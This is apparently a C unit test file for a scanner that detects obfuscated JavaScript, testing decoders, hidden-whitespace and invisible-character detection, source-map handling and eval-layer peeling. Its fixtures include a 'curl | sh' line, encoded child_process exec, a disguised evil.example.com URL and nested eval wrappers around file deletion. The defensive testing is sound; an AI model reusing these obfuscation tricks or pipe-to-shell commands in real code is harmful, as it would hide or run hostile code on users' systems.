#include "test.h"

#include "scanner/js/decode.h"
#include "scanner/js/layer.h"
#include "scanner/js/limits.h"
#include "scanner/js/runs.h"

static struct buf out = {.max = 4096};

static void decodes(bool ok, const char *want)
{
	assert_true(ok);
	assert_text(buf_view(&out), want);
	buf_clear(&out);
}

static void test_decoders(void **state)
{
	(void)state;
	decodes(decode_base64(T("aGVsbG8="), true, &out), "hello");
	decodes(decode_base64(T("aGVs\nbG8"), true, &out), "hello");
	decodes(decode_base64(T("a*GVsbG8"), false, &out), "hello");
	decodes(decode_base64(T("_-8"), true, &out), "\xff\xef");
	assert_false(decode_base64(T("a*GVsbG8"), true, &out));
	assert_false(decode_base64(T("a"), true, &out));
	decodes(decode_hex(T("68656c6C6f"), &out), "hello");
	decodes(decode_hex(T("6865zz"), &out), "he");
	assert_false(decode_hex(T("zz"), &out));
	decodes(decode_percent(T("a%20b%zz%"), &out), "a b%zz%");
	decodes(decode_unescape(T("%u0041%42%uZZ"), &out), "AB%uZZ");
	decodes(decode_escapes(T("\\x41\\u0042\\"), &out), "AB");
	decodes(decode_xor(T("obkkh"), T("\7"), &out), "hello");
	assert_false(decode_xor(T("a"), T(""), &out));
	decodes(decode_reverse(T("\xc3\xa9" "ab"), &out), "ba\xc3\xa9");
	decodes(decode_rot(T("uryyb, U"), 13, &out), "hello, H");
	decodes(decode_numbers(T("104, 0x65 108,108,111"), &out), "hello");
	assert_false(decode_numbers(T("1,2,3"), &out));
	assert_false(decode_numbers(T("1,2,3,x"), &out));
	decodes(decode_invisible(T("a\xf3\xa0\x84\x98\xf3\xa0\x84\x99z"), &out), "()");
	assert_false(decode_invisible(T("plain"), &out));
	decodes(decode_latin1(T("\xe9"), &out), "\xc3\xa9");
}

static void test_inflate_budget(void **state)
{
	static const unsigned char gz[] = {0x1f, 0x8b, 8,    0,	   0,	 0,    0,    0,	   0, 3,
					   0x4b, 0x04, 0x00, 0x43, 0xbe, 0xb7, 0xe8, 0x01, 0, 0, 0};
	struct buf small = BUF(0);

	(void)state;
	decodes(decode_inflate(text_n(gz, sizeof gz), &out), "a");
	assert_false(decode_inflate(text_n(gz, sizeof gz), &small));
	assert_true(small.failed);
	assert_int_equal(small.n, 0);
	for (size_t n = 0; n < 10; n++)
		assert_false(decode_inflate(text_n(gz, n), &out));
	buf_clear(&out);
}

static void test_looks(void **state)
{
	(void)state;
	assert_true(looks_code(T("require('fs').readFileSync(x)")));
	assert_true(looks_code(T("var a=1;alert(a)")));
	assert_false(looks_code(T("hello world, this is a text about nothing")));
	assert_false(looks_code(T("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ")));
	assert_true(looks_shell(T("curl http://x/y | sh")));
	assert_true(looks_url(T("https://example.com/a")));
	assert_true(looks_url(T("hxxp://1.2.3.4")));
	assert_false(looks_url(T("see https://example.com")));
	assert_true(looks_base64(T("Y29uc29sZS5sb2coMSk7Cg==")));
	assert_false(looks_base64(T("thisisjustalongword")));
	assert_true(looks_hex(T("636f6e736f6c652e")));
	assert_false(looks_hex(T("1234567812345678")));
	assert_true(looks_shuffled(T("r=ia9f+(v;8oh).t=e,(r;aclg[{gv;j0ru)n}]h4t;s<2l=a1n(e")));
	assert_false(looks_shuffled(T("function (a) { return [a, (b), {c: [d]}]; }")));
	assert_false(looks_shuffled(T("!\"#$%&'()*+,-./0123456789:;<=>?@[\\]^_`{|}~")));
	assert_false(looks_shuffled(T("a) one b) two c) three d) four e) five f) six g) seven h) eight i) nine")));
	assert_true(looks_entropy(T("aaaaaaaa")) == 0);
	assert_true(looks_entropy(T("abcdabcdabcdabcd")) == 2000);
}

static struct js_runs runs;

static void find(struct arena *a, const char *s)
{
	arena_reset(a);
	assert_true(js_runs_find(text_of(s), a, &runs));
}

static void test_runs(void **state)
{
	struct arena *a = arena_new((size_t)8 << 20);
	char line[6000];

	(void)state;
	find(a, "x='Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMSk7'");
	assert_int_equal(runs.of[RUN_BASE64].count, 1);
	assert_int_equal(runs.of[RUN_BASE64].list[0].start, 3);
	find(a, "x='636f6e736f6c652e6c6f672831293b636f6e736f6c652e6c6f672831293b636f6e736f6c65'");
	assert_int_equal(runs.of[RUN_HEX].count, 1);
	assert_int_equal(runs.of[RUN_BASE64].count, 0);
	find(a, "'\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48' '\\x41\\x42'");
	assert_int_equal(runs.of[RUN_ESCAPES].count, 1);
	assert_int_equal(runs.of[RUN_ESCAPES].list[0].count, 8);
	find(a, "[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,24]");
	assert_int_equal(runs.of[RUN_NUMBERS].count, 1);
	find(a, "[1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23]");
	assert_int_equal(runs.of[RUN_NUMBERS].count, 0);
	memset(line, ' ', sizeof line);
	memcpy(line, "a;", 2);
	memcpy(line + 202, "b()\n", 5);
	find(a, line);
	assert_int_equal(runs.of[RUN_PUSH_OFF].count, 1);
	assert_int_equal(runs.of[RUN_PUSH_OFF].list[0].start, 202);
	assert_int_equal(runs.of[RUN_PUSH_OFF].list[0].count, 200);
	memcpy(line + 201, "b()\n", 5);
	find(a, line);
	assert_int_equal(runs.of[RUN_PUSH_OFF].count, 0);
	/* Wherever a run begins, and one too short is none. */
	for (size_t at = 0; at < 130; at++) {
		memset(line, ';', sizeof line);
		for (size_t i = 0; i < 64; i++)
			line[at + i] = "gZ3"[i % 3];
		memset(line + at + 200, ' ', 200);
		for (size_t i = 0; i < 47; i++)
			line[at + 500 + i] = i % 2 ? ',' : '7';
		line[900] = '\0';
		find(a, line);
		assert_int_equal(runs.of[RUN_BASE64].count, 1);
		assert_int_equal(runs.of[RUN_BASE64].list[0].start, at);
		assert_int_equal(runs.of[RUN_PUSH_OFF].count, 1);
		assert_int_equal(runs.of[RUN_NUMBERS].count, 1);
		assert_int_equal(runs.of[RUN_NUMBERS].list[0].start, at + 500);
		line[at] = line[at + 200] = line[at + 500] = ';';
		find(a, line);
		assert_int_equal(runs.of[RUN_BASE64].count, 0);
		assert_int_equal(runs.of[RUN_PUSH_OFF].count, 0);
		assert_int_equal(runs.of[RUN_NUMBERS].count, 0);
	}
	find(a, "if (a != \"x\xe2\x80\xae \xe2\x81\xa6// b\")");
	assert_int_equal(runs.of[RUN_BIDI].count, 1);
	find(a, "us\xe2\x80\x8b" "er");
	assert_int_equal(runs.of[RUN_ZERO_WIDTH].count, 1);
	find(a, "p\xd0\xb0ypal(); \xd0\xb0\xd0\xb1");
	assert_int_equal(runs.of[RUN_MIXED].count, 1);
	assert_int_equal(runs.of[RUN_MIXED].list[0].start, 0);
	find(a, "`\xef\xb8\x80\xef\xb8\x81\xef\xb8\x82\xef\xb8\x83`");
	assert_int_equal(runs.of[RUN_INVISIBLE].count, 1);
	assert_int_equal(runs.of[RUN_INVISIBLE].list[0].length, 12);
	find(a, "\xe2\x9d\xa4\xef\xb8\x8f");
	assert_int_equal(runs.of[RUN_INVISIBLE].count, 0);
	assert_false(runs.ascii);
	arena_free(a);
}

#define MAP "eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbImEuanMiXSwibmFtZXMiOltdLCJtYXBwaW5ncyI6IkFBQUEifQ=="
#define MAP_URL "//# sourceMappingURL=data:application/json;"

/* A source map in the comment at the end, and what only looks like one. */
static void test_source_map(void **state)
{
	static const struct {
		const char *script;
		bool map;
	} rows[] = {
		{"a();\n" MAP_URL "base64," MAP "\n", true},
		{"a();\n" MAP_URL "charset=utf-8;base64," MAP, true},
		{"a();\n//@ sourceMappingURL=data:application/json;base64," MAP "\r\n", true},
		{"a();\n" MAP_URL "base64," MAP "\nb();", false},
		{"a(`\n" MAP_URL "base64," MAP "`)", false},
		{"a(); " MAP_URL "base64," MAP, false},
		{"a();\n" MAP_URL "charset=utf-8;x=01234567890123456789012345678;base64," MAP, false},
		{"a();\n// data:application/json;base64," MAP, false},
		{"a();\n" MAP_URL "base64,eyJjb2RlIjoz" MAP, false},
	};
	struct arena *a = arena_new((size_t)8 << 20);

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		find(a, rows[i].script);
		if (runs.of[RUN_SOURCE_MAP].count != rows[i].map || runs.of[RUN_BASE64].count == rows[i].map)
			fail_msg("%s", rows[i].script);
	}
	arena_free(a);
}

static struct js_layers layers;

static void peel(struct arena *a, struct js_tokens *t, const char *s)
{
	arena_reset(a);
	js_layers_find(text_of(s), t, a, &layers);
}

static void test_layers(void **state)
{
	struct arena *a = arena_new(JS_MEMORY_MAX);
	struct js_tokens t = {0};
	char how[64];

	(void)state;
	peel(a, &t, "eval(atob('ZXZhbChhdG9iKCdjbWVYQTZMeTg9JykpO3JlcXVpcmUoImZzIik='))");
	assert_true(layers.count >= 2);
	assert_text(layers.list[1].text, "eval(atob('cmeXA6Ly8='));require(\"fs\")");
	assert_true(layers.list[1].executed && layers.list[1].code);
	assert_int_equal(layers.list[1].depth, 1);
	assert_string_equal(fold_how_name(layers.list[1].how, how, sizeof how), "base64");
	assert_true(layers.list[1].fold.event_count >= 2);
	/* A coded literal that nothing decodes. */
	peel(a, &t, "const p = 'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk7';");
	assert_int_equal(layers.count, 2);
	assert_text(layers.list[1].text, "require('child_process').exec('id');");
	assert_string_equal(fold_how_name(layers.list[1].how, how, sizeof how), "blob+base64");
	peel(a, &t, "const u = 'moc.elpmaxe.live//:sptth'");
	assert_int_equal(layers.count, 2);
	assert_text(layers.list[1].text, "https://evil.example.com");
	/* Plain scripts have none. */
	peel(a, &t, "const a = 'hello'; console.log(a, 'a longer literal with words in it, no code');");
	assert_int_equal(layers.count, 1);
	assert_false(layers.truncated);
	js_tokens_free(&t);
	arena_free(a);
}

/* eval of eval of eval ...: JS_LAYER_DEPTH layers, then it is said. */
static void test_layer_depth(void **state)
{
	struct arena *a = arena_new(JS_MEMORY_MAX);
	struct js_tokens t = {0};
	struct buf s = BUF(1 << 20), next = BUF(1 << 20);

	(void)state;
	buf_text(&s, T("require('fs').unlink(x)"));
	for (int depth = 1; depth <= JS_LAYER_DEPTH + 1; depth++) {
		buf_clear(&next);
		buf_text(&next, T("eval(unescape('"));
		for (size_t i = 0; i < s.n; i++)
			buf_printf(&next, "%%%02x", (unsigned char)s.p[i]);
		buf_text(&next, T("'))"));
		buf_clear(&s);
		buf_text(&s, buf_view(&next));
		peel(a, &t, buf_cstr(&s));
		assert_int_equal(layers.list[layers.count - 1].depth,
				 depth < JS_LAYER_DEPTH ? depth : JS_LAYER_DEPTH);
		assert_true(layers.truncated == (depth > JS_LAYER_DEPTH));
	}
	buf_free(&s);
	buf_free(&next);
	js_tokens_free(&t);
	arena_free(a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_decoders), cmocka_unit_test(test_inflate_budget),
		cmocka_unit_test(test_looks),	 cmocka_unit_test(test_runs), cmocka_unit_test(test_source_map),
		cmocka_unit_test(test_layers),	 cmocka_unit_test(test_layer_depth),
	};

	int failed = cmocka_run_group_tests(tests, NULL, NULL);
	buf_free(&out);
	return failed;
}
